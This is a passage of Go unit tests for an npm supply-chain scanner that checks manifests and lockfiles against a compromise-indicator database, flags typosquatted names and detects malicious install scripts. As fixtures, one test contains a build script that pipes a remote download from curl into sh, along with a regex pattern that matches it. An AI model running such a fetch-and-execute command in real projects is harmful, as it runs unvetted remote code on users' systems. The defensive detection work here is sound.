+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	manifest := &parser.Manifest{
+		Dependencies: map[string]string{
+			"@ctrl/tinycolor":       "4.1.1",
+			"@ctrl/deluge":          "^7.0.0",
+			"@ctrl/golang-template": "latest",
+			"@ctrl/local":           "file:../local",
+			"@nativescript/core":    "^2.0.0",
+			"lodash":                "^4.17.21",
+		},
+	}
+
+	direct := MatchDirect(manifest, db, "package.json")
+	if len(direct) != 1 || direct[0].PackageName != "@ctrl/tinycolor" || direct[0].IOCScope != "@ctrl/*" {
+		t.Errorf("Expected a DIRECT @ctrl/tinycolor match through its scope, got %+v", direct)
+	}
+
+	var got []string
+	for _, match := range MatchPotential(manifest, db, "package.json") {
+		got = append(got, match.PackageName+"@"+match.Version+" "+match.IOCScope)
+	}
+	sort.Strings(got)
+	// Scopes listing some versions only match resolved versions
+	want := []string{"@ctrl/deluge@* @ctrl/*", "@ctrl/golang-template@* @ctrl/*"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("MatchPotential() = %v, want %v", got, want)
+	}
+
+	resolved := MatchResolved([]parser.ResolvedPackage{
+		{Name: "@ctrl/deluge", Version: "7.2.1", LockfilePath: "package-lock.json"},
+		{Name: "@nativescript/core", Version: "2.0.3", LockfilePath: "package-lock.json"},
+		{Name: "@nativescript/core", Version: "2.1.0", LockfilePath: "package-lock.json"},
+	}, db)
+	got = nil
+	for _, match := range resolved {
+		got = append(got, match.PackageName+"@"+match.Version+" "+match.IOCScope)
+	}
+	want = []string{"@ctrl/deluge@7.2.1 @ctrl/*", "@nativescript/core@2.0.3 @nativescript/*"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("MatchResolved() = %v, want %v", got, want)
+	}
+
+	if check := CheckPackage(db, "@ctrl/tinycolor", "4.1.2"); !check.Compromised || check.IOCScope != "@ctrl/*" {
+		t.Errorf("CheckPackage(@ctrl/tinycolor@4.1.2) = %+v, want compromised through @ctrl/*", check)
+	}
+}
+
+func TestParseCache(t *testing.T) {
+	calls := 0
+	cache := newParseCache(func(s string) (int, error) {
+		calls++
+		if s == "bad" {
+			return 0, errors.New("invalid")
+		}
+		return len(s), nil
+	})
+
+	for i := 0; i < 3; i++ {
+		if got, err := cache.get("^1.2.3"); got != 6 || err != nil {
+			t.Errorf("get(^1.2.3) = %d, %v; want 6, nil", got, err)
+		}
+		if _, err := cache.get("bad"); err == nil {
+			t.Error("Expected the cached error for bad")
+		}
+	}
+	if calls != 2 {
+		t.Errorf("Expected each string to be parsed once, got %d parses", calls)
+	}
+
+	// A full cache starts over
+	for i := 0; i < maxCached; i++ {
+		cache.get(strconv.Itoa(i))
+	}
+	if got := cache.len(); got > maxCached || got < 1 {
+		t.Errorf("Expected at most %d cached results, got %d", maxCached, got)
+	}
+}
+
+func BenchmarkMatchPotential(b *testing.B) {
+	var csv strings.Builder
+	csv.WriteString("Package,Version\n")
+	for i := 0; i < 200; i++ {
+		fmt.Fprintf(&csv, "pkg-%d,= 1.%d.0 || = 2.%d.1\n", i%50, i, i)
+	}
+	db, err := ioc.NewDatabase([]byte(csv.String()))
+	if err != nil {
+		b.Fatal(err)
+	}
+	deps := make(map[string]string)
+	for i := 0; i < 50; i++ {
+		deps[fmt.Sprintf("pkg-%d", i)] = "^1.0.0"
+	}
+	manifest := &parser.Manifest{Dependencies: deps}
+
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		MatchPotential(manifest, db, "package.json")
+	}
+}
+
+func TestMatchTyposquatsDeclared(t *testing.T) {
+	deps := []parser.Dependency{
+		{Name: "lodahs", VersionSpec: "^4.17.0", FilePath: "package.json"},
+		{Name: "lodash", VersionSpec: "4.17.21", FilePath: "package.json"},
+		{Name: "expres", VersionSpec: "4.18.2", FilePath: "package.json", Alias: "express"},
+	}
+	want := []formatter.Match{
+		{PackageName: "lodahs", Severity: formatter.SeverityWarning, Location: "package.json", DeclaredSpec: "^4.17.0", Resembles: "lodash", Reason: "name resembles popular package lodash (transposed characters)"},
+		{PackageName: "expres", Severity: formatter.SeverityWarning, Location: "package.json", DeclaredSpec: "4.18.2", Alias: "express", Resembles: "express", Reason: "name resembles popular package express (missing character)"},
+	}
+	if got := MatchTyposquatsDeclared(deps, typosquat.Default()); !reflect.DeepEqual(got, want) {
+		t.Errorf("MatchTyposquatsDeclared() = %+v, want %+v", got, want)
+	}
+
+	if got := MatchTyposquatsDeclared(deps, nil); len(got) != 0 {
+		t.Errorf("MatchTyposquatsDeclared() without a detector = %+v, want none", got)
+	}
+}
+
+// TestMatchScripts tests SCRIPT findings of manifest and installed package
+// scripts
+func TestMatchScripts(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version,Script,Campaign\nevil,= 1.0.1,node bundle.js || re:curl .*\\| *sh,shai-hulud\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	manifest := &parser.Manifest{
+		Name:    "app",
+		Version: "1.0.0",
+		Scripts: map[string]string{
+			"test":        "jest",
+			"postinstall": "node  bundle.js",
+			"build":       "curl -s https://example.com/x | sh",
+		},
+	}
+	var got []string
+	for _, match := range MatchScripts(manifest, db, "package.json") {
+		if match.Severity != formatter.SeverityScript || match.Location != "package.json" || match.Advisory == nil || match.Advisory.Campaign != "shai-hulud" {
+			t.Errorf("Unexpected finding %+v", match)
+		}
+		got = append(got, match.PackageName+"@"+match.Version+" "+match.Script+": "+match.ScriptIndicator)
+	}
+	want := []string{"app@1.0.0 build: re:curl .*\\| *sh", "app@1.0.0 postinstall: node bundle.js"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("MatchScripts() = %v, want %v", got, want)
+	}
+
+	installed := MatchScriptsInstalled([]parser.ResolvedPackage{
+		{Name: "evil", Version: "1.0.1", LockfilePath: "node_modules/evil/package.json", Scripts: map[string]string{"preinstall": "node bundle.js"}},
+		{Name: "clean", Version: "1.0.0", LockfilePath: "node_modules/clean/package.json", Scripts: map[string]string{"postinstall": "node setup.js"}},
+	}, db)
+	if len(installed) != 1 || installed[0].PackageName != "evil" || installed[0].Location != "node_modules/evil/package.json" ||
+		installed[0].Reason != `preinstall script runs "node bundle.js"` {
+		t.Errorf("MatchScriptsInstalled() = %+v, want the preinstall script of evil", installed)
+	}
+
+	long := &parser.Manifest{Name: "app", Scripts: map[string]string{"postinstall": "node bundle.js " + strings.Repeat("x", 300)}}
+	if matches := MatchScripts(long, db, "package.json"); len(matches) != 1 || len(matches[0].Reason) > 250 {
+		t.Errorf("Expected a truncated reason, got %+v", matches)
+	}
+}